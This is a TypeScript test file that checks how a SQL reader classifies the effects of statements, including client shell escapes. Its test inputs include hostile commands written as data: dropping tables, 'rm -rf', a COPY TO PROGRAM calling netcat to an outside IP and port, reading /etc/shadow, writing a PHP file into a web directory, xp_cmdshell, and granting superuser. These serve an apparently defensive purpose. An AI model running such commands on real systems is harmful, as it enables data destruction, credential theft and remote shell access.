import { describe, expect, it } from 'vitest';
import { readSql as readerOf } from '../../../../src/actions/code/sql.ts';
import { shownEffects, shownRuns } from '../../../support/outcome.ts';
import { setting } from '../../../support/setting.ts';

const readSql = readerOf('sql');
const read = (text: string) => {
  const outcome = readSql(text, setting());
  return [...shownEffects(outcome), ...shownRuns(outcome)];
};

describe('SQL and what its clients add to it', () => {
  it.each([
    ['select * from a; drop table b', ['db.read', 'db.drop b']],
    ['.shell id; uname', ['sh: id; uname']],
    ['\\! rm -rf notes', ['sh: rm -rf notes']],
    ["copy a to program 'nc 203.0.113.9 4444'", ['db.read', 'sh: nc 203.0.113.9 4444']],
    ["select load_file('/etc/shadow') from a", ['db.read', 'file.read /etc/shadow']],
    ["select 1 from a into outfile '/srv/x.php'", ['db.read', 'file.write /srv/x.php']],
    ["exec xp_cmdshell 'whoami'", ['sh: whoami']],
    ['alter table a add column b text', ['db.write']],
    ['alter role a superuser', ['db.admin']],
    ["insert into a values ('drop table b')", ['db.write']],
  ])('%s: %j', (text, expected) => expect(read(text)).toEqual(expected));
});
